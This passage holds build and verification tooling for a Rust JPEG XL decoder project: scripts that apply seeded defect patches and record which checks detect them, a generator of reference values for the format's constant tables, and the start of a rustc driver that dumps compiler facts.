    ids = a or sorted(d for d in os.listdir(sdir) if os.path.exists(os.path.join(sdir, d, "patch.diff")))

    def one(sid):
        patch, out = try_patches.run_one(os.path.join(sdir, sid, "patch.diff"), props)
        return sid, out

    with ThreadPoolExecutor(max_workers=jobs) as ex:
        for sid, out in ex.map(one, ids):
            mp = os.path.join(sdir, sid, "meta.json")
            meta = json.load(open(mp))
            under = [m.group(1) for l in out for m in [re.match(r"== (C\d+) fires", l)] if m]
            keys = sorted({m.group(1) for l in out for m in [re.search(r"rule=(\S+) key=\[[^|]*\|([^\]]*)\]", l)] if m})
            bad = [l for l in out if "PATCH-DOES-NOT-APPLY" in l or "Traceback" in l or l.strip().startswith("ERROR")]
            meta["detected"] = bool(under) and not bad
            meta["detected_under"] = under
            meta["fires_now"] = keys
            if bad:
                meta["refresh_problem"] = bad[0][:200]
            else:
                meta.pop("refresh_problem", None)
            json.dump(meta, open(mp, "w"), indent=1)
            print("%-6s %-5s %-28s %s" % (sid, meta["property"], ",".join(under) or "-", ",".join(keys)[:90] + (" !! " + bad[0][:80] if bad else "")))
            sys.stdout.flush()


if __name__ == "__main__":
    main()

#!/bin/bash
# Confirm each seeded change against the CURRENT /repo HEAD in its scratch worktree:
#   demo passes without the patch; with the patch: workspace builds, 114 baseline tests pass, demo fails.
# usage: tools/confirm_seeds.sh id1 id2 ...   (ids like C08a); results appended to /tmp/seed/confirm.log
HEAD=$(git -C /repo rev-parse HEAD)
declare -A DEMO
DEMO[C01a]="cd demo && cargo test --offline"
DEMO[C02a]="cd demo && cargo test --offline --test squeeze_small_widths -- --test-threads 1"
DEMO[C05a]="cd demo && cargo test --offline --test c05_blend"
DEMO[C06a]="cd demo && cargo test --offline --test c06_region_history"
DEMO[C07a]="cd demo/c07-demo && cargo test --offline"
DEMO[C08a]="cd demo && cargo test --offline --release"
DEMO[C10a]="cd demo && cargo test --offline"
DEMO[C11a]="cd demo && cargo test --offline --release"
DEMO[C13a]="cd demo/tracker_race && cargo test --offline --release --no-fail-fast"
DEMO[C14a]="cd demo && cargo test --offline"
DEMO[C15a]="cd demo && cargo test --offline --test c15"
DEMO[C16a]="cd demo && cargo test --offline --release"
DEMO[C20a]="cd demo/c20-demo && cargo run --offline --release"
DEMO[C01b]="cd demo && cargo test --offline --test c01_render_retry"
DEMO[C05b]="cd demo && cargo test --offline --test c05b_demo"
DEMO[C06b]="cd demo && cargo test --offline --release"
DEMO[C07b]="cd demo && cargo test --offline --release"
DEMO[C08b]="cd demo && cargo run --offline --release"
DEMO[C10b]="cd demo && cargo test --offline"
DEMO[C14b]="cd demo && cargo test --offline"
DEMO[C15b]="cd demo && cargo test --offline"
DEMO[C16b]="cd demo && cargo test --offline"
DEMO[C20b]="cd demo && cargo test --offline --release --test c20_failed_frame_callers"
DEMO[C02b]="cd demo && cargo test --offline"
DEMO[C11b]="cd demo && cargo test --offline --release"
DEMO[C13b]="cd demo && cargo test --offline --release"
DEMO[C18c]="cd demo && cargo test --offline"
for id in "$@"; do
  wt=/tmp/seed/$id
  log=/tmp/seed/confirm_$id.log
  : > $log
  cd $wt || { echo "$id: no worktree" >> /tmp/seed/confirm.log; continue; }
  git checkout -q -- crates 2>>$log; git clean -fdq crates 2>>$log
  git checkout -q --detach $HEAD 2>>$log || { echo "$id: checkout failed" >> /tmp/seed/confirm.log; continue; }
  export CARGO_NET_OFFLINE=true
  export CARGO_TARGET_DIR=$wt/target/demo
  cmd=${DEMO[$id]}
  [ -z "$cmd" ] && [ -f demo/CMD ] && cmd=$(cat demo/CMD)
  ( eval "$cmd" ) >>$log 2>&1; before=$?
  git apply demo/patch.diff >>$log 2>&1; applied=$?
  unset CARGO_TARGET_DIR
  cargo build --workspace --offline >>$log 2>&1; build=$?
  summary=$(cargo nextest run --workspace --no-fail-fast --test-threads 8 --offline 2>&1 | grep Summary)
  export CARGO_TARGET_DIR=$wt/target/demo
  ( eval "$cmd" ) >>$log 2>&1; after=$?
  unset CARGO_TARGET_DIR
  echo "$id head=${HEAD:0:7} demo_before_exit=$before patch_applied=$applied build=$build suite='$summary' demo_after_exit=$after" >> /tmp/seed/confirm.log
done
echo ALL-DONE >> /tmp/seed/confirm.log

import json, os, shutil, subprocess, sys
sid, prop, change, needs, cmd, detected, by = sys.argv[1:8]
src = "/tmp/seed/%s/demo" % sid
dst = "/verif/seeded/%s" % sid
if os.path.exists(dst): shutil.rmtree(dst)
shutil.copytree(src, dst, ignore=shutil.ignore_patterns("target", "*.jpg", "*.jxl.tmp"))
head = subprocess.run(["git","-C","/tmp/seed/%s" % sid,"rev-parse","--short","HEAD"],capture_output=True,text=True).stdout.strip()
log = [l for l in open("/tmp/seed/confirm.log") if l.startswith(sid + " ")][-1].strip()
meta = {"id": sid, "property": prop, "change": change, "needs_to_manifest": needs,
        "confirmed": {"at_repo_head": head, "builds": "build=0" in log, "baseline_suite": "114 passed, 82 failed (unchanged)" if "114 passed, 82 failed" in log else log,
                      "demo_without_patch": "passes (exit 0)" if "demo_before_exit=0" in log else "FAILS", "demo_with_patch": "fails (non-zero exit)" if "demo_after_exit=0" not in log else "PASSES",
                      "demo_cmd": cmd, "how": "tools/confirm_seeds.sh in the seed's scratch worktree", "log": log},
        "checked_with": "tools/try_patches.py (every registered check on a scratch worktree with the patch applied)",
        "detected": detected == "yes", "detected_by": by}
json.dump(meta, open(dst + "/meta.json", "w"), indent=1)
print("saved", sid, meta["confirmed"]["demo_without_patch"], meta["confirmed"]["demo_with_patch"])

#!/usr/bin/env python3
"""Generate /verif/tables/spec_consts.json: reference values for the constant tables of the format.

Every entry is compared by R-SPECCONST with the value rustc *evaluates* for the named constant of /repo (semantic value, not
source text).  `basis` says where the reference comes from:
  standard  - transcribed here from the cited standard / well-known published values, independently of the repository
  derived   - computed here from a formula (the formula is the reference; a single mistyped entry breaks it)
  snapshot  - copied from the repository at generation time and NOT independently confirmed (reported as such in evidence;
              still compared, because an unintended change of a format table changes decoded output)
Run:  tools/gen_spec_consts.py   (needs the fact cache of the current tree for the snapshot entries)"""
import json
import math
import os
import struct
import sys

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, V)


def f32(x):
    return struct.unpack("f", struct.pack("f", x))[0]


E = []


def add(id_, props, crate, path, compare, value, basis, source, **kw):
    E.append(dict(id=id_, properties=props, crate=crate, path=path, compare=compare, value=value, basis=basis, source=source, **kw))


# ------------------------------------------------------------------------------------------------------------ entropy coding (C04)
SPECIAL = [(0, 1), (1, 0), (1, 1), (-1, 1), (0, 2), (2, 0), (1, 2), (-1, 2), (2, 1), (-2, 1), (2, 2), (-2, 2), (0, 3), (3, 0), (1, 3),
           (-1, 3), (3, 1), (-3, 1), (2, 3), (-2, 3), (3, 2), (-3, 2), (0, 4), (4, 0), (1, 4), (-1, 4), (4, 1), (-4, 1), (3, 3), (-3, 3),
           (2, 4), (-2, 4), (4, 2), (-4, 2), (0, 5), (3, 4), (-3, 4), (4, 3), (-4, 3), (5, 0), (1, 5), (-1, 5), (5, 1), (-5, 1), (2, 5),
           (-2, 5), (5, 2), (-5, 2), (4, 4), (-4, 4), (3, 5), (-3, 5), (5, 3), (-5, 3), (0, 6), (6, 0), (1, 6), (-1, 6), (6, 1), (-6, 1),
           (2, 6), (-2, 6), (6, 2), (-6, 2), (4, 5), (-4, 5), (5, 4), (-5, 4), (3, 6), (-3, 6), (6, 3), (-6, 3), (0, 7), (7, 0), (1, 7),
           (-1, 7), (5, 5), (-5, 5), (7, 1), (-7, 1), (4, 6), (-4, 6), (6, 4), (-6, 4), (2, 7), (-2, 7), (7, 2), (-7, 2), (3, 7), (-3, 7),
           (7, 3), (-7, 3), (5, 6), (-5, 6), (6, 5), (-6, 5), (8, 0), (4, 7), (-4, 7), (7, 4), (-7, 4), (8, 1), (8, 2), (6, 6), (-6, 6),
           (8, 3), (5, 7), (-5, 7), (7, 5), (-7, 5), (8, 4), (6, 7), (-6, 7), (7, 6), (-7, 6), (8, 5), (7, 7), (-7, 7), (8, 6), (8, 7)]
assert len(SPECIAL) == 120
add("lz77-special-distances", ["C04"], "jxl_coding",
    "jxl_coding::DecoderInner::read_varint_with_multiplier_clustered_lz77::SPECIAL_DISTANCES", "exact", [list(x) for x in SPECIAL],
    "standard", "ISO/IEC 18181-1 LZ77 special distance table (120 (dx,dy) pairs; same table as WebP lossless / libjxl kSpecialDistances)")
add("prefix-code-length-order", ["C04"], "jxl_coding", "jxl_coding::prefix::Histogram::parse_complex::CODE_LENGTH_ORDER", "exact",
    [1, 2, 3, 4, 0, 5, 17, 6, 16, 7, 8, 9, 10, 11, 12, 13, 14, 15], "standard", "RFC 7932 (Brotli) 3.5: order of the code length code lengths")

# ------------------------------------------------------------------------------------------------------------ modular (C03)
add("wp-div-lookup", ["C03"], "jxl_modular", "jxl_modular::predictor::DIV_LOOKUP", "exact", [0] + [(1 << 24) // i for i in range(1, 65)],
    "derived", "weighted predictor reciprocal table: floor(2^24 / i), i = 1..64 (entry 0 unused)")
DELTA = [(0, 0, 0), (4, 4, 4), (11, 0, 0), (0, 0, -13), (0, -12, 0), (-10, -10, -10), (-18, -18, -18), (-27, -27, -27), (-18, -18, 0),
         (0, 0, -32), (-32, 0, 0), (-37, -37, -37), (0, -32, -32), (24, 24, 45), (50, 50, 50), (-45, -24, -24), (-24, -45, -45),
         (0, -24, -24), (-34, -34, 0), (-24, 0, -24), (-45, -45, -24), (64, 64, 64), (-32, 0, -32), (0, -32, 0), (-32, 0, 32),
         (-24, -45, -24), (45, 24, 45), (24, -24, -45), (-45, -24, 24), (80, 80, 80), (64, 0, 0), (0, 0, -64), (0, -64, -64),
         (-24, -24, 45), (96, 96, 96), (64, 64, 0), (45, -24, -24), (34, -34, 0), (112, 112, 112), (24, -45, -45), (45, 45, -24),
         (0, -32, 32), (24, -24, 45), (0, 96, 96), (45, -24, 24), (24, -45, -24), (-24, -45, 24), (0, -64, 0), (96, 0, 0),
         (128, 128, 128), (64, 0, 64), (144, 144, 144), (96, 96, 0), (-36, -36, 36), (45, -24, -45), (45, -45, -24), (0, 0, -96),
         (0, 128, 128), (0, 96, 0), (45, 24, -45), (-128, 0, 0), (24, -45, 24), (-45, 24, -45), (64, 0, -64), (64, -64, -64),
         (96, 0, 96), (45, -45, 24), (24, 45, -45), (64, 64, -64), (128, 128, 0), (0, 0, -128), (-24, 45, -45)]
assert len(DELTA) == 72
add("delta-palette", ["C03"], "jxl_modular", "jxl_modular::transform::palette::DELTA_PALETTE", "exact", [list(x) for x in DELTA],
    "standard", "ISO/IEC 18181-1 delta palette (72 RGB triples; libjxl kDeltaPalette)")

# ------------------------------------------------------------------------------------------------------------ colour (C19)
add("illuminant-d65", ["C19"], "jxl_color", "jxl_color::consts::ILLUMINANT_D65", "f32", [0.3127, 0.3290], "standard", "CIE D65 chromaticity (ISO/IEC 18181-1 white point table)")
add("illuminant-d50", ["C19"], "jxl_color", "jxl_color::consts::ILLUMINANT_D50", "f32", [0.345669, 0.358496], "standard", "D50 chromaticity used for the ICC profile connection space (xy of ICC D50 XYZ 0.9642, 1.0, 0.8249)")
add("illuminant-dci", ["C19"], "jxl_color", "jxl_color::consts::ILLUMINANT_DCI", "f32", [0.314, 0.351], "standard", "SMPTE RP 431-2 DCI white")
add("illuminant-e", ["C19"], "jxl_color", "jxl_color::consts::ILLUMINANT_E", "f32", [1 / 3, 1 / 3], "standard", "equal-energy white")
add("primaries-srgb", ["C19"], "jxl_color", "jxl_color::consts::PRIMARIES_SRGB", "f32",
    [[0.639998686, 0.330010138], [0.300003784, 0.600003357], [0.150002046, 0.059997204]], "standard",
    "ISO/IEC 18181-1 sRGB primaries (the values that round-trip through the ICC s15Fixed16 encoding)")
add("primaries-bt2100", ["C19"], "jxl_color", "jxl_color::consts::PRIMARIES_BT2100", "f32", [[0.708, 0.292], [0.170, 0.797], [0.131, 0.046]], "standard", "ITU-R BT.2100 / BT.2020 primaries")
add("primaries-p3", ["C19"], "jxl_color", "jxl_color::consts::PRIMARIES_P3", "f32", [[0.680, 0.320], [0.265, 0.690], [0.150, 0.060]], "standard", "SMPTE RP 431-2 / Display P3 primaries")
BRAD = [0.8951, 0.2664, -0.1614, -0.7502, 1.7135, 0.0367, 0.0389, -0.0685, 1.0296]
add("bradford", ["C19"], "jxl_color", "jxl_color::ciexyz::MAT_BRADFORD", "f32", BRAD, "standard", "Bradford cone response matrix (ICC.1 Annex E)")


def inv3(m):
    a, b, c, d, e, f, g, h, i = m
    det = a * (e * i - f * h) - b * (d * i - f * g) + c * (d * h - e * g)
    return [(e * i - f * h) / det, (c * h - b * i) / det, (b * f - c * e) / det,
            (f * g - d * i) / det, (a * i - c * g) / det, (c * d - a * f) / det,
            (d * h - e * g) / det, (b * g - a * h) / det, (a * e - b * d) / det]


add("bradford-inverse", ["C19"], "jxl_color", "jxl_color::ciexyz::MAT_BRADFORD_INV", "f32", inv3(BRAD), "derived", "matrix inverse of the Bradford matrix", ulps=64)
add("hlg-a", ["C19"], "jxl_color", "jxl_color::tf::HLG_A", "f32", 0.17883277, "standard", "ITU-R BT.2100 HLG a")
add("hlg-b", ["C19"], "jxl_color", "jxl_color::tf::HLG_B", "f32", 1 - 4 * 0.17883277, "derived", "ITU-R BT.2100 HLG b = 1 - 4a")
add("hlg-c", ["C19"], "jxl_color", "jxl_color::tf::HLG_C", "f32", 0.5 - 0.17883277 * math.log(4 * 0.17883277), "derived", "ITU-R BT.2100 HLG c = 0.5 - a ln(4a)")
add("hlg-table-a", ["C19"], "jxl_color", "jxl_color::tf::hlg_table::A", "f64", 0.17883277, "standard", "ITU-R BT.2100 HLG a")
add("hlg-table-b", ["C19"], "jxl_color", "jxl_color::tf::hlg_table::B", "f64", 0.28466892, "standard", "ITU-R BT.2100 HLG b")
add("hlg-table-c", ["C19"], "jxl_color", "jxl_color::tf::hlg_table::C", "f64", 0.5599107, "standard", "ITU-R BT.2100 HLG c", rel=1e-6)
add("pq-c1", ["C19"], "jxl_color", "jxl_color::tf::pq::pq_table::C1_F64", "f64", 3424 / 4096, "standard", "SMPTE ST 2084 c1 = 3424/4096")
add("pq-c2", ["C19"], "jxl_color", "jxl_color::tf::pq::pq_table::C2_F64", "f64", 2413 / 4096 * 32, "standard", "SMPTE ST 2084 c2 = 2413/4096*32")
add("pq-c3", ["C19"], "jxl_color", "jxl_color::tf::pq::pq_table::C3_F64", "f64", 2392 / 4096 * 32, "standard", "SMPTE ST 2084 c3 = 2392/4096*32")
add("pq-m1-recip", ["C19"], "jxl_color", "jxl_color::tf::pq::pq_table::M1_RECIP_F64", "f64", 1 / (2610 / 16384), "standard", "SMPTE ST 2084 1/m1, m1 = 2610/16384")
add("pq-m2-recip", ["C19"], "jxl_color", "jxl_color::tf::pq::pq_table::M2_RECIP_F64", "f64", 1 / (2523 / 4096 * 128), "standard", "SMPTE ST 2084 1/m2, m2 = 2523/4096*128")
# the ICC recogniser's tables must use the synthesiser's chromaticities (agreement between the two directions)
add("icc-parse-primaries-table", ["C19"], "jxl_color", "jxl_color::icc::parse::IccProfileInfo::primaries::PRIMARIES_TO_ENUM", "f32",
    [[[[0.639998686, 0.330010138], [0.300003784, 0.600003357], [0.150002046, 0.059997204]], "jxl_image::color::Primaries::Srgb"],
     [[[0.708, 0.292], [0.170, 0.797], [0.131, 0.046]], "jxl_image::color::Primaries::Bt2100"],
     [[[0.680, 0.320], [0.265, 0.690], [0.150, 0.060]], "jxl_image::color::Primaries::P3"]], "standard",
    "recognition table of parse_icc: the same chromaticities the synthesiser writes, mapped to the same enum values", unordered=True)
add("icc-parse-whitepoint-table", ["C19"], "jxl_color", "jxl_color::icc::parse::IccProfileInfo::white_point::WP_TO_ENUM", "f32",
    [[[0.3127, 0.3290], "jxl_image::color::WhitePoint::D65"], [[0.314, 0.351], "jxl_image::color::WhitePoint::Dci"],
     [[1 / 3, 1 / 3], "jxl_image::color::WhitePoint::E"]], "standard", "recognition table of parse_icc for named white points", unordered=True)

# ------------------------------------------------------------------------------------------------------------ ICC stream (C18)
add("icc-common-tags", ["C18"], "jxl_color", "jxl_color::icc::decode::decode_icc::COMMON_TAGS", "exact",
    ["rTRC", "rXYZ", "cprt", "wtpt", "bkpt", "rXYZ", "gXYZ", "bXYZ", "kXYZ", "rTRC", "gTRC", "bTRC", "kTRC", "chad", "desc", "chrm", "dmnd", "dmdd", "lumi"],
    "standard", "ISO/IEC 18181-1 ICC tag list: tag codes 2 and 3 (TRC / XYZ groups) then the tag strings of codes 4..20", bytes=True)
add("icc-common-data", ["C18"], "jxl_color", "jxl_color::icc::decode::decode_icc::COMMON_DATA", "exact",
    ["XYZ ", "desc", "text", "mluc", "para", "curv", "sf32", "gbd "], "standard", "ISO/IEC 18181-1 ICC main content: type strings of commands 16..23", bytes=True)

# ------------------------------------------------------------------------------------------------------------ VarDCT transforms (C16)
add("dct4-sec0", ["C16"], "jxl_render", "jxl_render::vardct::x86_64::dct::dct4_vec_inverse::SEC0", "f32", 1 / (2 * math.cos(math.pi / 8)), "derived", "1/(2 cos(pi/8))")
add("dct4-sec1", ["C16"], "jxl_render", "jxl_render::vardct::x86_64::dct::dct4_vec_inverse::SEC1", "f32", 1 / (2 * math.cos(3 * math.pi / 8)), "derived", "1/(2 cos(3 pi/8))")
add("dct4-fwd-sec0", ["C16"], "jxl_render", "jxl_render::vardct::x86_64::dct::dct4_vec_forward::SEC0", "f32", 1 / (2 * math.cos(math.pi / 8)), "derived", "1/(2 cos(pi/8))")
add("dct4-fwd-sec1", ["C16"], "jxl_render", "jxl_render::vardct::x86_64::dct::dct4_vec_forward::SEC1", "f32", 1 / (2 * math.cos(3 * math.pi / 8)), "derived", "1/(2 cos(3 pi/8))")
add("lf-scale-f", ["C16"], "jxl_render", "jxl_render::vardct::dct_common::scale_f::SCALE_F", "f32",
    [math.cos(i * math.pi / 512) * math.cos(i * math.pi / 256) * math.cos(i * math.pi / 128) for i in range(32)], "derived",
    "LF coefficient injection scale: cos(i pi/512) cos(i pi/256) cos(i pi/128), i = 0..31 (formula confirmed on all 32 entries)", ulps=4)
add("block-sizes", ["C16"], "jxl_vardct", "jxl_vardct::hf_pass::BLOCK_SIZES", "exact",
    [[8, 8], [8, 8], [16, 16], [32, 32], [16, 8], [32, 8], [32, 16], [64, 64], [64, 32], [128, 128], [128, 64], [256, 256], [256, 128]],
    "standard", "ISO/IEC 18181-1 coefficient order classes: block dimensions per order id")

# ------------------------------------------------------------------------------------------------------------ container / headers
add("codestream-signature", ["C10"], "jxl_bitstream", "jxl_bitstream::consts::CODESTREAM_SIG", "exact", [0xff, 0x0a], "standard", "ISO/IEC 18181-1 codestream signature", bytes=True)
add("container-signature", ["C10"], "jxl_bitstream", "jxl_bitstream::consts::CONTAINER_SIG", "exact",
    [0, 0, 0, 0xc, 0x4a, 0x58, 0x4c, 0x20, 0xd, 0xa, 0x87, 0xa], "standard", "ISO/IEC 18181-2 signature box", bytes=True)
for name, fourcc in [("CODESTREAM", "jxlc"), ("PARTIAL_CODESTREAM", "jxlp"), ("BROTLI_COMPRESSED", "brob"), ("JPEG_RECONSTRUCTION", "jbrd"),
                     ("EXIF", "Exif"), ("XML", "xml "), ("JXL", "JXL "), ("FILE_TYPE", "ftyp"), ("JXL_LEVEL", "jxll"), ("JUMBF", "jumb"),
                     ("FRAME_INDEX", "jxli"), ("HDR_GAIN_MAP", "jhgm")]:
    add("box-type-" + fourcc.strip(), ["C10"], "jxl_bitstream", "jxl_bitstream::container::box_header::ContainerBoxType::" + name, "exact",
        {"ctor": "jxl_bitstream::container::box_header::ContainerBoxType", "args": [fourcc]}, "standard", "ISO/IEC 18181-2 box type", bytes=True)
for name, bit in [("NOISE", 1), ("PATCHES", 2), ("SPLINES", 0x10), ("USE_LF_FRAME", 0x20), ("SKIP_ADAPTIVE_LF_SMOOTHING", 0x80)]:
    add("frame-flag-" + name.lower(), ["C14"], "jxl_frame", "jxl_frame::header::FrameFlags::" + name, "exact", bit, "standard", "ISO/IEC 18181-1 frame header flags")
add("epf-sharp-lut-default", ["C14"], "jxl_frame", "jxl_frame::filter::EPF_SHARP_LUT_DEFAULT", "f32", [i / 7 for i in range(8)], "derived", "default EPF sharpness LUT: i/7")
add("epf-channel-scale-default", ["C14"], "jxl_frame", "jxl_frame::filter::EPF_CHANNEL_SCALE_DEFAULT", "f32", [40.0, 5.0, 3.5], "standard", "ISO/IEC 18181-1 restoration filter defaults")
add("jbr-header-icc", ["C17"], "jxl_jbr", "jxl_jbr::HEADER_ICC", "exact", "ICC_PROFILE\0", "standard", "ICC.1 Annex B JPEG APP2 identifier", bytes=True)
add("jbr-header-exif", ["C17"], "jxl_jbr", "jxl_jbr::HEADER_EXIF", "exact", "Exif\0\0", "standard", "Exif APP1 identifier", bytes=True)
add("jbr-header-xmp", ["C17"], "jxl_jbr", "jxl_jbr::HEADER_XMP", "exact", "http://ns.adobe.com/xap/1.0/\0", "standard", "XMP APP1 namespace identifier", bytes=True)
add("hf-coeff-freq-context", ["C17", "C16"], "jxl_vardct", "jxl_vardct::hf_coeff::write_hf_coeff::COEFF_FREQ_CONTEXT", "exact",
    list(range(16)) + [15, 16, 16, 17, 17, 18, 18, 19, 19, 20, 20, 21, 21, 22, 22] + [23] * 4 + [24] * 4 + [25] * 4 + [26] * 4 + [27] * 4 + [28] * 4 + [29] * 4 + [30] * 4,
    "standard", "ISO/IEC 18181-1 HF coefficient context: frequency context table (entries 1..63)")
add("hf-coeff-nonzero-context", ["C17", "C16"], "jxl_vardct", "jxl_vardct::hf_coeff::write_hf_coeff::COEFF_NUM_NONZERO_CONTEXT", "exact",
    [0, 31, 62, 62] + [93] * 4 + [123] * 4 + [152] * 8 + [180] * 12 + [206] * 31,
    "standard", "ISO/IEC 18181-1 HF coefficient context: non-zero count context table (entries 1..63)")

# ------------------------------------------------------------------------------------------------------------ snapshots
SNAP = [
    ("afv-basis", ["C16"], "jxl_render", "jxl_render::vardct::transform_common::AFV_BASIS", "f32", "ISO/IEC 18181-1 AFV basis (16x16)"),
    ("upsampling-weights-2", ["C14"], "jxl_image", "jxl_image::ImageMetadata::D_UP2", "f32", "ISO/IEC 18181-1 default 2x upsampling weights"),
    ("upsampling-weights-4", ["C14"], "jxl_image", "jxl_image::ImageMetadata::D_UP4", "f32", "ISO/IEC 18181-1 default 4x upsampling weights"),
    ("upsampling-weights-8", ["C14"], "jxl_image", "jxl_image::ImageMetadata::D_UP8", "f32", "ISO/IEC 18181-1 default 8x upsampling weights"),
    ("dequant-dct4x8", ["C16"], "jxl_vardct", "jxl_vardct::dequant::DequantMatrixParamsEncoding::DCT4X8_PARAMS", "f32", "default dequantisation parameters"),
    ("dequant-dct4", ["C16"], "jxl_vardct", "jxl_vardct::dequant::DequantMatrixParamsEncoding::DCT4_PARAMS", "f32", "default dequantisation parameters"),
    ("dequant-seq-a", ["C16"], "jxl_vardct", "jxl_vardct::dequant::DequantMatrixParamsEncoding::SEQ_A", "f32", "default dequantisation parameters"),
    ("dequant-seq-b", ["C16"], "jxl_vardct", "jxl_vardct::dequant::DequantMatrixParamsEncoding::SEQ_B", "f32", "default dequantisation parameters"),
    ("dequant-seq-c", ["C16"], "jxl_vardct", "jxl_vardct::dequant::DequantMatrixParamsEncoding::SEQ_C", "f32", "default dequantisation parameters"),
    ("afv-freqs", ["C16"], "jxl_vardct", "jxl_vardct::dequant::DequantMatrixParams::into_matrix::FREQS", "f32", "AFV dequantisation frequencies"),
    ("pq-eotf-p", ["C19"], "jxl_color", "jxl_color::tf::pq::EOTF_P", "f32", "rational approximation of the PQ EOTF (libjxl)"),
    ("pq-eotf-q", ["C19"], "jxl_color", "jxl_color::tf::pq::EOTF_Q", "f32", "rational approximation of the PQ EOTF (libjxl)"),
    ("pq-inv-eotf-p", ["C19"], "jxl_color", "jxl_color::tf::pq::INV_EOTF_P", "f32", "rational approximation of the inverse PQ EOTF (libjxl)"),
    ("pq-inv-eotf-q", ["C19"], "jxl_color", "jxl_color::tf::pq::INV_EOTF_Q", "f32", "rational approximation of the inverse PQ EOTF (libjxl)"),
    ("pq-inv-eotf-p-small", ["C19"], "jxl_color", "jxl_color::tf::pq::INV_EOTF_P_SMALL", "f32", "rational approximation of the inverse PQ EOTF, small inputs (libjxl)"),
    ("pq-inv-eotf-q-small", ["C19"], "jxl_color", "jxl_color::tf::pq::INV_EOTF_Q_SMALL", "f32", "rational approximation of the inverse PQ EOTF, small inputs (libjxl)"),
    ("srgb-to-linear-p", ["C19"], "jxl_color", "jxl_color::tf::srgb::srgb_to_linear::P", "f32", "rational approximation of the sRGB EOTF (libjxl)"),
    ("srgb-to-linear-q", ["C19"], "jxl_color", "jxl_color::tf::srgb::srgb_to_linear::Q", "f32", "rational approximation of the sRGB EOTF (libjxl)"),
    ("dct-select-list", ["C16"], "jxl_vardct", "<jxl_vardct::dequant::DequantMatrixSet as jxl_oxide_common::Bundle<jxl_vardct::dequant::DequantMatrixSetParams<'_, '_, '_>>>::parse::DCT_SELECT_LIST",
     "exact", "transform type represented by each of the 17 dequantisation matrix slots"),
]


def main():
    from jxlv import engine, constval
    ctx = engine.Ctx("C18", "quick", configs=("workspace",))
    for id_, props, crate, path, compare, src in SNAP:
        k = ctx.prog.crate(crate).consts.get(path)
        if k is None:
            print("snapshot source missing:", path)
            continue
        add(id_, props, crate, path, compare, constval.parse(k["value"]), "snapshot", src + " -- copied from the repository, not independently confirmed")
    out = os.path.join(V, "tables", "spec_consts.json")
    json.dump({"comment": __doc__.split("\n")[0], "entries": E}, open(out, "w"), indent=1)
    b = {}
    for e in E:
        b[e["basis"]] = b.get(e["basis"], 0) + 1
    print(len(E), "entries:", b)


if __name__ == "__main__":
    main()

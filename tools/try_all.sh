#!/bin/sh
# usage: tools/try_all.sh <patch.diff>   apply to /repo, run every registered check, revert; prints the checks that fire
P="$1"
cd /repo || exit 2
git diff --quiet || { echo "/repo not clean"; exit 2; }
git apply "$P" || { echo "patch does not apply"; exit 2; }
cd /verif
for c in $(python3 -c "import json;print(\" \".join(c[\"property_id\"] for c in json.load(open(\"/verif/MANIFEST.json\"))[\"checks\"]))"); do
  out=$(JXLV_EVID=/tmp/jxlv-tryall-evid ./check $c 2>/dev/null)
  if [ $? -ne 0 ]; then echo "== $c fires:"; echo "$out" | grep "rule=" | cut -c1-260; fi
done
git -C /repo checkout -- .
rm -rf /tmp/jxlv-tryall-evid

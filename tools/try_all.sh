#!/bin/sh
# usage: tools/try_all.sh <patch.diff>   apply to /repo, run every registered check, revert; prints the checks that fire
P="$1"
cd /repo || exit 2
git diff --quiet || { echo "/repo not clean"; exit 2; }
git apply "$P" || { echo "patch does not apply"; exit 2; }
cd /verif
for c in C01 C02 C05 C06 C07 C08 C10 C11 C13 C14 C15 C16 C20; do
  out=$(JXLV_EVID=/tmp/jxlv-tryall-evid ./check $c 2>/dev/null)
  if [ $? -ne 0 ]; then echo "== $c fires:"; echo "$out" | grep "rule=" | cut -c1-260; fi
done
git -C /repo checkout -- .
rm -rf /tmp/jxlv-tryall-evid

#!/bin/sh
# run every registered check's thorough tier, print exit codes (development aid; evidence goes to a scratch directory)
cd "$(dirname "$0")/.."
export JXLV_EVID=${JXLV_EVID:-/tmp/jxlv-thorough-evid}
for c in $(python3 -c "import json;print(' '.join(x['property_id'] for x in json.load(open('MANIFEST.json'))['checks']))"); do
  s=$(date +%s); ./check $c --tier thorough > /tmp/thorough_$c.out 2>&1; rc=$?; e=$(date +%s)
  echo "$c rc=$rc $((e-s))s $(tail -1 /tmp/thorough_$c.out | cut -c1-140)"
done

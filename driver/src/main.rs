// jxlv-driver: a rustc_private driver that dumps type-checked program facts
// (MIR of every fn/closure, resolved callees, ADTs, impls, statics, unsafe blocks)
// of the crate being compiled as one JSON file in $JXLV_OUT.
//
// Invoked by cargo as RUSTC_WORKSPACE_WRAPPER: argv = [driver, rustc, args...].
#![feature(rustc_private)]
#![allow(clippy::all)]

extern crate rustc_abi;
extern crate rustc_driver;
extern crate rustc_hir;
extern crate rustc_interface;
extern crate rustc_middle;
extern crate rustc_session;
extern crate rustc_span;

mod json;

use json::J;
use rustc_driver::Compilation;
use rustc_hir as hir;
use rustc_hir::def::DefKind;
use rustc_hir::def_id::{DefId, LocalDefId};
use rustc_middle::mir::{self, *};
use rustc_middle::ty::print::{
    with_no_trimmed_paths, with_no_visible_paths, with_resolve_crate_name, PrintTraitRefExt,
};

macro_rules! full {
    ($e:expr) => {
        with_resolve_crate_name!(with_no_visible_paths!(with_no_trimmed_paths!($e)))
    };
}
use rustc_middle::ty::{self, Ty, TyCtxt};
use rustc_span::Span;
use std::collections::HashMap;

struct Cb;

impl rustc_driver::Callbacks for Cb {
    fn after_analysis<'tcx>(
        &mut self,
        _compiler: &rustc_interface::interface::Compiler,
        tcx: TyCtxt<'tcx>,
    ) -> Compilation {
        if let Ok(out) = std::env::var("JXLV_OUT") {
            dump(tcx, &out);
        }
        Compilation::Continue
    }
}

fn main() {
    let mut args: Vec<String> = std::env::args().collect();
    // wrapper mode: argv[1] is the path of the real rustc
    if args.len() > 1 && (args[1].ends_with("rustc") || args[1].contains("/rustc")) {
        args.remove(1);
    }
    rustc_driver::run_compiler(&args, &mut Cb);
}

struct Cx<'tcx> {
    tcx: TyCtxt<'tcx>,
    strs: Vec<String>,
    idx: HashMap<String, usize>,
}

impl<'tcx> Cx<'tcx> {
    fn s(&mut self, s: String) -> J {
        if let Some(&i) = self.idx.get(&s) {
            return J::I(i as i64);
        }
        let i = self.strs.len();
        self.idx.insert(s.clone(), i);
        self.strs.push(s);
        J::I(i as i64)
    }
    fn ty(&mut self, t: Ty<'tcx>) -> J {
        let s = full!(format!("{}", t));
        self.s(s)
    }
    fn path(&mut self, d: DefId) -> J {
